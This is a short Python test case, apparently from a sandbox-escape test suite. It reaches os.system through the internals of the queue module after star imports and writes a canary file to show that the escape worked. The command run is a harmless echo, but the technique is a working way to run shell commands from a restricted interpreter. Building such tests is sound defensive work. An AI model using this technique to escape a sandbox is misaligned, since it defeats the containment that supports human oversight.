# id: 531
# name: module_by_star
# category: interpreter
# technique: from queue import *, then what came with it
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
from queue import *
from statistics import *
from collections import *
import queue
queue.threading._os.system('echo breach > ' + CANARY_FILE)
